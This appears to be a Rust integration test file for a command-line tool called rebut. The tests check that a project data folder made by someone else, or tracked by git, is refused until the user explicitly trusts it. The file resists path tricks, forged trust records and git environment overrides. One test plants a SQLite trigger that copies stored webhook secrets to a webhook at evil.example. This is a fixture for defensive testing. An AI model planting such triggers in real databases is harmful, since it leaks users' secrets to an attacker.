//! A data folder in a project: what rebut made there for this user is used,
//! what came with the project waits for trust.

use crate::rebut::{Rebut, recommends, script};
use std::fs;

const ASK: &[&str] = &[
    "--data",
    "debates",
    "decide",
    "Offline?",
    "-O",
    "A=Yes",
    "-O",
    "B=No",
    "-m",
    "script:agree.md",
    "--judges",
    "risk,value,effort",
];

/// A project with a data folder that another user made: a stopped debate, a webhook, a key.
pub fn project() -> Rebut {
    let mut rebut = Rebut::new();
    rebut.write("agree.md", &script(&[("*", &recommends("A"))]));
    let author = rebut.path("../author");
    fs::create_dir(&author).expect("a home");
    rebut.set("HOME", &author.display().to_string());
    assert_ne!(
        rebut.run(&[ASK, &["--max-calls", "1"]].concat()).code,
        0,
        "it stops at its limit"
    );
    rebut.expect(
        0,
        &[
            "--data",
            "debates",
            "webhooks",
            "add",
            "https://collect.example/all",
        ],
    );
    rebut.expect(
        0,
        &[
            "--data", "debates", "keys", "add", "theirs", "--owner", "author",
        ],
    );
    rebut.expect(0, &["--data", "debates", "ls"]);
    rebut.set("HOME", &rebut.path("..").display().to_string());
    rebut
}

#[test]
fn what_came_with_a_project_is_opened_once_it_is_trusted() {
    let rebut = project();
    let commands: &[&[&str]] = &[
        &["ls"],
        &["resume", "last"],
        &["serve", "--listen", "127.0.0.1:0"],
        &["keys", "ls"],
        &["doctor"],
    ];
    for command in commands {
        let refused = rebut.run(&[&["--data", "debates"], *command].concat());
        assert_eq!(refused.code, 2, "{command:?}: {refused:?}");
        assert!(
            refused
                .stderr
                .contains("the data folder debates is not empty and was not made by you"),
            "{command:?}: {}",
            refused.stderr
        );
        assert!(
            refused.stderr.contains("rebut trust --data debates"),
            "{command:?}: {}",
            refused.stderr
        );
    }
    let unasked = rebut.run(&["--data", "debates", "trust"]);
    assert!(
        unasked.code == 2 && unasked.stderr.contains("rebut trust --yes --data debates"),
        "{unasked:?}"
    );
    let asked = rebut.json(0, &["--data", "debates", "trust", "--json"]);
    let keys: Vec<&str> = asked["powers"]
        .as_array()
        .expect("a list")
        .iter()
        .filter_map(|power| power["key"].as_str())
        .collect();
    assert_eq!(
        (keys, &asked["trusted"]),
        (vec!["debates", "server.keys", "webhooks"], &false.into()),
        "{asked}"
    );
    let text = asked.to_string();
    for told in [
        "1 of them go on",
        "script:agree.md",
        "https://collect.example/all",
        "`theirs` of author",
    ] {
        assert!(text.contains(told), "{told}: {text}");
    }

    rebut.expect(0, &["--data", "debates", "trust", "--yes"]);
    assert!(
        rebut
            .expect(0, &["--data", "debates", "ls"])
            .contains("Offline?")
    );
    assert!(
        rebut
            .expect(0, &["trust", "--list"])
            .contains("/debates\n    debates: ")
    );
    rebut.expect(0, &["trust", "--revoke", "debates"]);
    rebut.expect(2, &["--data", "debates", "ls"]);
}

#[test]
fn what_was_made_in_a_project_for_this_user_is_theirs_until_its_key_is_another() {
    let rebut = Rebut::new();
    rebut.write("agree.md", &script(&[("*", &recommends("A"))]));
    rebut.expect(0, ASK);
    let whole = rebut.path("debates").display().to_string();
    for data in ["debates", "./debates", &whole] {
        assert!(
            rebut
                .expect(0, &["--data", data, "ls"])
                .contains("Offline?"),
            "{data}"
        );
    }
    fs::write(rebut.path("debates/seal.key"), "00".repeat(32)).expect("another key");
    let refused = rebut.run(&["--data", "debates", "ls"]);
    assert!(
        refused.code == 2 && refused.stderr.contains("another sealing key"),
        "{refused:?}"
    );
}

#[test]
fn no_other_way_of_writing_its_place_opens_it() {
    let rebut = project();
    fs::create_dir(rebut.path("src")).expect("a folder");
    let whole = rebut.path("debates").display().to_string();
    for (folder, data) in [
        (".", "nothing/../debates"),
        (".", "./src/../debates/"),
        ("src", "../debates"),
        ("src", "$PWD/../debates"),
        ("src", &whole),
    ] {
        let line = format!("cd {folder} && rebut --data \"{data}\" keys ls");
        let output = rebut.shell(&line);
        assert_eq!(
            (output.code, &*output.stdout),
            (2, ""),
            "{line}: {}",
            output.stderr
        );
        let line = format!("cd {folder} && REBUT_DATA=\"{data}\" rebut keys ls");
        assert_eq!(rebut.shell(&line).code, 2, "{line}");
    }
    // A link of the user's own on the way: the shell's `$PWD` keeps it.
    let linked = rebut.path("../linked");
    std::os::unix::fs::symlink(rebut.path("."), &linked).expect("a link");
    let linked = linked.display();
    for line in [
        format!("cd {linked} && rebut --data \"$PWD/debates\" keys ls"),
        format!("cd {linked} && REBUT_DATA=\"$PWD/debates\" rebut keys ls"),
        format!("cd {linked}/src && rebut --data {linked}/debates keys ls"),
    ] {
        let output = rebut.shell(&line);
        assert_eq!(
            (output.code, &*output.stdout),
            (2, ""),
            "{line}: {}",
            output.stderr
        );
    }
    // A folder that is itself a repository, from outside of it.
    fs::create_dir(rebut.path("debates/.git")).expect("a folder");
    assert_eq!(
        rebut
            .shell(&format!("cd / && rebut --data {whole} keys ls"))
            .code,
        2,
        "the root of a repository"
    );
    // A record of trust that the project brings.
    let mut rebut = rebut;
    rebut.expect(0, &["--data", "debates", "trust", "--yes"]);
    let record = fs::read_to_string(rebut.state().join("trusted.json")).expect("a record");
    rebut.expect(0, &["trust", "--revoke", "debates"]);
    rebut.write("state/rebut/trusted.json", &record);
    rebut.set("XDG_STATE_HOME", "state");
    rebut.expect(2, &["--data", "debates", "keys", "ls"]);
}

#[test]
fn what_git_tracks_is_not_opened_and_nothing_is_lost() {
    let rebut = Rebut::new();
    rebut.write("agree.md", &script(&[("*", &recommends("A"))]));
    rebut.program("git", "PATH=/usr/local/bin:/usr/bin:/bin exec git \"$@\"");
    rebut.expect(0, ASK);
    let before = fs::read(rebut.path("debates/rebut.db")).expect("a database");
    // As a pull of a commit with such a file leaves it.
    rebut.write("debates/server.keys", "[]");
    let tracked = rebut.shell("git init -q . && git add -f debates/server.keys");
    assert_eq!(tracked.code, 0, "{}", tracked.stderr);
    for command in [&["ls"][..], &["resume", "last"], &["trust", "--yes"]] {
        let refused = rebut.run(&[&["--data", "debates"], command].concat());
        assert!(
            refused.code == 2 && refused.stderr.contains("git tracks `debates/server.keys`"),
            "{command:?}: {refused:?}"
        );
    }
    assert!(
        fs::read(rebut.path("debates/rebut.db")).expect("a database") == before,
        "nothing was changed"
    );
    // What the commit brought is still there: it counts once the user has seen it.
    rebut.shell("git rm -q --cached debates/server.keys");
    let refused = rebut.run(&["--data", "debates", "ls"]);
    assert!(
        refused.code == 2 && refused.stderr.contains("rebut trust --data debates"),
        "{refused:?}"
    );
    rebut.expect(0, &["--data", "debates", "trust", "--yes"]);
    assert!(
        rebut
            .expect(0, &["--data", "debates", "ls"])
            .contains("Offline?")
    );
}

#[test]
fn what_git_tracks_is_found_whatever_the_environment_or_the_repository_says() {
    const REAL: &str = "PATH=/usr/local/bin:/usr/bin:/bin exec git \"$@\"";
    // What is done to the repository, with which environment, what is said.
    let ways = [
        (":", "GIT_DIR=.git", "git tracks"),
        ("git init -q other", "GIT_DIR=other/.git", "git tracks"),
        (":", "GIT_INDEX_FILE=/nonexistent", "git tracks"),
        (":", "GIT_WORK_TREE=/tmp", "git tracks"),
        (":", "GIT_CEILING_DIRECTORIES=$PWD", "git tracks"),
        ("git config core.bare true", "", "git tracks"),
        ("git config core.worktree /tmp", "", "git tracks"),
        ("git init -q debates", "", "git tracks"),
        ("/bin/mkdir debates/.git", "", "git tracks"),
        (
            "git config core.repositoryFormatVersion 1 && git config extensions.unknown 1",
            "",
            "git could not list",
        ),
        ("printf broken >.git/index", "", "git could not list"),
    ];
    for (before, with, said) in ways {
        let rebut = Rebut::new();
        rebut.write("agree.md", &script(&[("*", &recommends("A"))]));
        rebut.program("git", REAL);
        rebut.expect(0, ASK);
        rebut.write("debates/server.keys", "[]");
        let made = rebut.shell(&format!(
            "git init -q . && git add -f debates/server.keys && {before}"
        ));
        assert_eq!(made.code, 0, "{before}: {}", made.stderr);
        // As if the repository were another user's, which git alone would not look into.
        rebut.program(
            "git",
            &format!("export GIT_TEST_ASSUME_DIFFERENT_OWNER=1; {REAL}"),
        );
        let refused = rebut.shell(&format!("{with} rebut --data debates ls"));
        assert!(
            refused.code != 0 && refused.stdout.is_empty() && refused.stderr.contains(said),
            "{before} {with}: {refused:?}"
        );
    }
}

#[test]
fn what_trust_shows_cannot_be_forged_and_looking_changes_nothing() {
    let rebut = project();
    let name = "a\n  webhooks\n    none";
    let keys = format!(
        r#"[{{"name":{name:?},"owner":{name:?},"role":"admin","sha256":"{}"}}]"#,
        "0".repeat(64)
    );
    rebut.write("debates/server.keys", &keys);
    let database = rebut.path("debates/rebut.db");
    let trigger = "CREATE TRIGGER told AFTER INSERT ON events BEGIN INSERT OR IGNORE INTO webhooks \
        (id, owner, url, events, secret, created_at) \
                   SELECT 'planted', owner, 'https://evil.example/', events, secret, created_at \
                   FROM webhooks; END";
    let connection = rusqlite::Connection::open(&database).expect("a database");
    connection.execute_batch(trigger).expect("a trigger");
    connection.close().expect("closed");
    let before = fs::read(&database).expect("a database");
    let shown = rebut.run(&["--data", "debates", "trust"]).stdout;
    assert_eq!(
        shown.lines().filter(|line| *line == "  webhooks").count(),
        1,
        "{shown}"
    );
    assert!(
        fs::read(&database).expect("a database") == before,
        "looking changes nothing"
    );
    rebut.expect(0, &["--data", "debates", "trust", "--yes"]);
    rebut.expect(0, ASK);
    assert!(
        !rebut
            .expect(0, &["--data", "debates", "webhooks", "ls"])
            .contains("evil.example"),
        "its trigger does nothing"
    );
}

#[test]
fn many_first_commands_at_once_are_all_at_home() {
    let rebut = Rebut::new();
    rebut.write("agree.md", &script(&[("*", &recommends("A"))]));
    let started: Vec<_> = (0..6)
        .map(|_| {
            rebut
                .command(ASK)
                .stderr(std::process::Stdio::piped())
                .spawn()
                .expect("it starts")
        })
        .collect();
    for child in started {
        let ended = child.wait_with_output().expect("it ends");
        assert_eq!(
            ended.status.code(),
            Some(0),
            "{}",
            String::from_utf8_lossy(&ended.stderr)
        );
    }
}
